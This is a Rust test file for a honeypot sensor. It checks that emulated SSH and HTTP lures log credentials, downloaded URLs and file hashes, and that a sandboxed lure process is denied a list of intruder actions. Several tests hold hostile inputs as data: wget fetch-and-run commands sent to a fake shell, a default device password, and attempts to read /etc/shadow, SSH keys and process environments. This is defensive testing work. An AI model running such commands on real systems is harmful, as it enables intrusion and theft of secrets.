//! Lures met by the clients that people and bots use, and a lure process seen from inside.

use noroshi_model::lure::Lure;
use noroshi_sensor::iot::{self, Finished};
use noroshi_sensor::lure::confine::{Role, confine};
use std::net::SocketAddr;
use std::process::{Command, Output, Stdio};
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

/// A device on loopback, until the test is done with it.
struct Device {
    address: SocketAddr,
    finished: mpsc::Receiver<Finished>,
    _stop: tokio_util::sync::DropGuard,
}

fn device(lure: Lure, seed: u64) -> Device {
    let listen = vec![(lure, "127.0.0.1:0".parse().unwrap())];
    let config =
        iot::Config { sensor: "s".into(), seed, persona: "camera".into(), listen, hasty: true, ..Default::default() };
    let bound = iot::bind(config).unwrap();
    let address = bound.addresses()[0].1;
    let (sender, finished) = mpsc::channel(16);
    let stop = CancellationToken::new();
    tokio::spawn(bound.run(sender, stop.clone()));
    Device { address, finished, _stop: stop.drop_guard() }
}

/// Whether a program is there; where everything must be tested it has to be.
fn have(program: &str) -> bool {
    let found = Command::new("which").arg(program).stdout(Stdio::null()).status().is_ok_and(|status| status.success());
    assert!(found || std::env::var_os("CI").is_none(), "{program} is missing");
    if !found {
        println!("skipped: {program} is missing");
    }
    found
}

async fn run(mut command: Command) -> Output {
    tokio::task::spawn_blocking(move || command.stdin(Stdio::null()).output().unwrap()).await.unwrap()
}

/// OpenSSH, with a password given by a program.
#[cfg(feature = "ssh")]
fn openssh(program: &str, device: &Device, folder: &std::path::Path, password: &str) -> Command {
    use std::os::unix::fs::PermissionsExt;
    let ask = folder.join("ask.sh");
    std::fs::write(&ask, format!("#!/bin/sh\necho '{password}'\n")).unwrap();
    std::fs::set_permissions(&ask, std::fs::Permissions::from_mode(0o700)).unwrap();
    let mut command = Command::new(program);
    command.env("SSH_ASKPASS", &ask).env("SSH_ASKPASS_REQUIRE", "force").env("DISPLAY", "none");
    for option in
        ["StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "LogLevel=ERROR", "PubkeyAuthentication=no"]
    {
        command.args(["-o", option]);
    }
    command.arg(if program == "ssh" { "-p" } else { "-P" }).arg(device.address.port().to_string());
    command.arg("-F").arg("/dev/null");
    command
}

#[cfg(feature = "ssh")]
#[tokio::test(flavor = "multi_thread")]
async fn openssh_runs_a_command_and_leaves_a_row() {
    if !have("ssh") {
        return;
    }
    let (mut device, folder) = (device(Lure::Ssh, 1), tempfile::tempdir().unwrap());
    let mut command = openssh("ssh", &device, folder.path(), "xc3511");
    command.args(["root@127.0.0.1", "uname -m; wget http://192.0.2.66/x.sh -O /tmp/x.sh; echo done"]);
    let done = run(command).await;
    let said = String::from_utf8_lossy(&done.stdout);
    assert!(done.status.success(), "{said}{}", String::from_utf8_lossy(&done.stderr));
    assert!(said.contains("armv5tejl") && said.ends_with("done\n"), "{said}");
    let session = device.finished.recv().await.unwrap().session;
    assert_eq!(session.credentials, ["root:xc3511"]);
    assert_eq!(session.urls, ["http://192.0.2.66/x.sh"]);
    assert_eq!((session.protocol.as_str(), session.logins_accepted), ("ssh", 1));
    assert!(
        session.client.as_ref().is_some_and(|client| client.starts_with("SSH-2.0-OpenSSH")),
        "{:?}",
        session.client
    );
    assert!(session.fingerprint.as_ref().is_some_and(|hassh| hassh.len() == 32), "{:?}", session.fingerprint);
}

#[cfg(feature = "ssh")]
#[tokio::test(flavor = "multi_thread")]
async fn scp_and_sftp_leave_files_by_hash() {
    if !have("scp") || !have("sha256sum") {
        return;
    }
    for legacy in [true, false] {
        let (mut device, folder) = (device(Lure::Ssh, 1), tempfile::tempdir().unwrap());
        let file = folder.path().join("bot.bin");
        std::fs::write(&file, vec![0x7f; 70_000]).unwrap();
        let mut command = openssh("scp", &device, folder.path(), "xc3511");
        command.args(legacy.then_some("-O")).arg(&file).arg("root@127.0.0.1:/tmp/bot");
        let done = run(command).await;
        assert!(done.status.success(), "{legacy} {}", String::from_utf8_lossy(&done.stderr));
        let mut sum = Command::new("sha256sum");
        sum.arg(&file);
        let hash = String::from_utf8(run(sum).await.stdout).unwrap()[..64].to_owned();
        let finished = device.finished.recv().await.unwrap();
        assert_eq!(finished.session.hashes, [hash], "{legacy}");
        assert_eq!(finished.samples[0].path, "/tmp/bot");
    }
}

#[cfg(feature = "ssh")]
#[tokio::test(flavor = "multi_thread")]
async fn forwards_are_refused_and_written_down() {
    if !have("ssh") {
        return;
    }
    let (mut device, folder) = (device(Lure::Ssh, 1), tempfile::tempdir().unwrap());
    // Nobody must come here.
    let canary = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    canary.set_nonblocking(true).unwrap();
    let there = canary.local_addr().unwrap();
    let mut command = openssh("ssh", &device, folder.path(), "xc3511");
    command.args(["-W", &there.to_string(), "root@127.0.0.1"]);
    assert!(!run(command).await.status.success());
    let session = device.finished.recv().await.unwrap().session;
    assert!(session.steps.contains("\"forward\":\"local\""), "{}", session.steps);
    let mut command = openssh("ssh", &device, folder.path(), "xc3511");
    command.args(["-o", "ExitOnForwardFailure=yes", "-R", &format!("8022:{there}"), "-N", "root@127.0.0.1"]);
    assert!(!run(command).await.status.success());
    let session = device.finished.recv().await.unwrap().session;
    assert!(session.steps.contains("\"forward\":\"remote\""), "{}", session.steps);
    assert_eq!(canary.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock);
}

#[cfg(feature = "ssh")]
#[tokio::test(flavor = "multi_thread")]
async fn two_sensors_have_two_host_keys_and_keep_them() {
    if !have("ssh-keyscan") {
        return;
    }
    let mut keys = Vec::new();
    for seed in [1, 2, 1] {
        let device = device(Lure::Ssh, seed);
        let mut command = Command::new("ssh-keyscan");
        command.args(["-t", "ed25519", "-p", &device.address.port().to_string(), "127.0.0.1"]);
        let said = String::from_utf8(run(command).await.stdout).unwrap();
        keys.push(said.split_whitespace().last().map(str::to_owned).expect("a key"));
    }
    assert_ne!(keys[0], keys[1]);
    assert_eq!(keys[0], keys[2]);
}

#[tokio::test(flavor = "multi_thread")]
async fn curl_completes_and_places_are_written_down() {
    if !have("curl") {
        return;
    }
    let mut device = device(Lure::Http, 1);
    let mut command = Command::new("curl");
    command.args(["-s", "-S", "--noproxy", "*", "-e", "http://landing.example/page", "-u", "admin:secret"]);
    command.arg(format!("http://{}/shell?cd+/tmp;wget+http://192.0.2.9/m.sh;sh+m.sh", device.address));
    command.arg("--next").args(["-s", "-S", "--noproxy", "*"]).arg(format!("http://{}/", device.address));
    let done = run(command).await;
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    let session = device.finished.recv().await.unwrap().session;
    assert_eq!(session.urls, ["http://192.0.2.9/m.sh", "http://landing.example/page"]);
    assert_eq!(session.credentials, ["admin:secret"]);
    assert!(session.client.is_some_and(|client| client.starts_with("curl/")));
}

const INSIDE: &str = "NOROSHI_TEST_INSIDE_LURE";

/// What an intruder would try who took over a lure process for dialogues. Each returns whether it worked.
#[allow(clippy::type_complexity)]
fn attempts() -> Vec<(&'static str, Box<dyn Fn() -> bool>)> {
    use std::fs;
    use std::net::{TcpListener, TcpStream, UdpSocket};
    use std::os::unix::net::{UnixDatagram, UnixListener, UnixStream};
    let mut out: Vec<(&'static str, Box<dyn Fn() -> bool>)> = vec![
        ("connect v4", Box::new(|| TcpStream::connect("127.0.0.1:9").is_ok())),
        ("connect v6", Box::new(|| TcpStream::connect("[::1]:9").is_ok())),
        ("connect mapped", Box::new(|| TcpStream::connect("[::ffff:127.0.0.1]:9").is_ok())),
        ("udp socket", Box::new(|| UdpSocket::bind("127.0.0.1:0").is_ok())),
        ("listen", Box::new(|| TcpListener::bind("127.0.0.1:0").is_ok())),
        ("unix stream", Box::new(|| UnixStream::connect("/run/x").is_ok() || UnixStream::pair().is_ok())),
        ("unix listen", Box::new(|| UnixListener::bind("/tmp/noroshi-test-socket").is_ok())),
        ("unix datagram", Box::new(|| UnixDatagram::unbound().is_ok())),
        ("run a program", Box::new(|| Command::new("/bin/true").status().is_ok())),
        ("read a folder", Box::new(|| fs::read_dir("/").is_ok())),
        ("make a file", Box::new(|| fs::write("/tmp/noroshi-test-file", b"x").is_ok())),
        ("make a folder", Box::new(|| fs::create_dir("/tmp/noroshi-test-folder").is_ok())),
        ("remove", Box::new(|| fs::remove_file("/tmp/noroshi-test-file").is_ok())),
        ("link", Box::new(|| std::os::unix::fs::symlink("/", "/tmp/noroshi-test-link").is_ok())),
        ("change folder", Box::new(|| std::env::set_current_dir("/etc").is_ok())),
        ("look at a file", Box::new(|| fs::metadata("/etc/passwd").is_ok())),
        ("start a thread", Box::new(|| std::thread::Builder::new().spawn(|| ()).is_ok())),
        ("signal the parent", Box::new(|| nix::sys::signal::kill(nix::unistd::getppid(), None).is_ok())),
        ("become root", Box::new(|| nix::unistd::setuid(nix::unistd::Uid::from_raw(0)).is_ok())),
        ("new namespaces", Box::new(|| nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWUSER).is_ok())),
        (
            "mount",
            Box::new(|| {
                nix::mount::mount(Some("x"), "/mnt", Some("tmpfs"), nix::mount::MsFlags::empty(), None::<&str>).is_ok()
            }),
        ),
        (
            "packet socket",
            Box::new(|| {
                use nix::sys::socket::{AddressFamily, SockFlag, SockType, socket};
                socket(AddressFamily::Packet, SockType::Raw, SockFlag::empty(), None).is_ok()
                    || socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), None).is_ok()
                    || socket(AddressFamily::Netlink, SockType::Raw, SockFlag::empty(), None).is_ok()
            }),
        ),
    ];
    for path in [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hostname",
        "/proc/self/mem",
        "/proc/self/environ",
        "/proc/1/environ",
        "/root/.ssh/id_ed25519",
        "/dev/null",
        "/dev/urandom",
        "/dev/mem",
        "/sys/kernel/notes",
        "/proc/net/tcp",
        "/proc/self/maps",
        "/dev/tty",
        "/var/lib/noroshi-sensor/identity.json",
    ] {
        out.push((path, Box::new(move || std::fs::File::open(path).is_ok())));
    }
    // The sensor's own state, which this user may otherwise read.
    if let Some(folder) = std::env::var_os("NOROSHI_TEST_STATE") {
        for file in ["identity.json", "pseudonym.key", "spool/00000000000000000001.seg", "ceiling.toml"] {
            let path = std::path::Path::new(&folder).join(file);
            let again = path.clone();
            out.push((file, Box::new(move || std::fs::read(&path).is_ok())));
            out.push((file, Box::new(move || std::fs::OpenOptions::new().append(true).open(&again).is_ok())));
        }
    }
    out
}

#[test]
fn a_lure_process_can_do_nothing_but_answer() {
    const NAME: &str = "lures::a_lure_process_can_do_nothing_but_answer";
    if std::env::var_os(INSIDE).is_none() {
        let state = tempfile::tempdir().unwrap();
        std::fs::create_dir(state.path().join("spool")).unwrap();
        for file in ["identity.json", "pseudonym.key", "spool/00000000000000000001.seg", "ceiling.toml"] {
            std::fs::write(state.path().join(file), b"secret").unwrap();
        }
        let mut command = Command::new(std::env::current_exe().unwrap());
        command.args(["--exact", NAME, "--nocapture", "--test-threads=1"]);
        let done = command.env(INSIDE, "1").env("NOROSHI_TEST_STATE", state.path()).output().unwrap();
        let text = String::from_utf8_lossy(&done.stdout);
        print!("{text}{}", String::from_utf8_lossy(&done.stderr));
        assert!(text.contains("ATTEMPTS DENIED"), "the test inside did not come to its end");
        assert!(!text.contains("WORKED"), "{text}");
        return;
    }
    // Each of them works before: a list of what fails anyway would prove nothing.
    let before: Vec<bool> = attempts().iter().map(|(_, attempt)| attempt()).collect();
    assert!(before.iter().filter(|worked| **worked).count() >= 20, "{before:?}");
    let (accepted, _visitor) = pair();
    let stray = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let held = confine(&Role::Dialogues, None).unwrap();
    println!("{held}");
    let mut denied = 0;
    for (name, attempt) in attempts() {
        if attempt() { println!("{name} WORKED") } else { denied += 1 }
    }
    // A socket that it holds anyway sends nowhere but back.
    if stray.send_to(b"x", "127.0.0.1:9").is_ok() {
        println!("send to an address WORKED");
    }
    use std::io::Write;
    assert_eq!((&accepted).write(b"hello").unwrap(), 5, "an answer still leaves");
    println!("{denied} ATTEMPTS DENIED");
    // The harness could not clean up after itself in here.
    std::process::exit(0);
}

fn pair() -> (std::net::TcpStream, std::net::TcpStream) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let visitor = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    (listener.accept().unwrap().0, visitor)
}

#[test]
fn a_reflector_process_sends_from_its_own_sockets_only() {
    const NAME: &str = "lures::a_reflector_process_sends_from_its_own_sockets_only";
    if std::env::var_os(INSIDE).is_none() {
        let mut command = Command::new(std::env::current_exe().unwrap());
        let done =
            command.args(["--exact", NAME, "--nocapture", "--test-threads=1"]).env(INSIDE, "1").output().unwrap();
        let text = String::from_utf8_lossy(&done.stdout);
        assert!(
            text.contains("own true, other false, stream false"),
            "{text}{}",
            String::from_utf8_lossy(&done.stderr)
        );
        return;
    }
    use nix::sys::socket::{ControlMessage, MsgFlags, SockaddrIn, sendmsg};
    use std::os::fd::AsRawFd;
    let bind = || std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let (own, other, receiver, (stream, _visitor)) = (bind(), bind(), bind(), pair());
    let SocketAddr::V4(to) = receiver.local_addr().unwrap() else { unreachable!("bound to IPv4") };
    confine(&Role::Datagrams(vec![own.as_raw_fd()]), None).unwrap();
    let data = [std::io::IoSlice::new(b"x")];
    let none: [ControlMessage<'_>; 0] = [];
    let send = |fd| sendmsg(fd, &data, &none, MsgFlags::empty(), Some(&SockaddrIn::from(to))).is_ok();
    use std::io::Write;
    let _ = (&stream).flush();
    let by_send = nix::sys::socket::send(stream.as_raw_fd(), b"x", MsgFlags::empty()).is_ok();
    println!("own {}, other {}, stream {by_send}", send(own.as_raw_fd()), send(other.as_raw_fd()));
    std::process::exit(0);
}
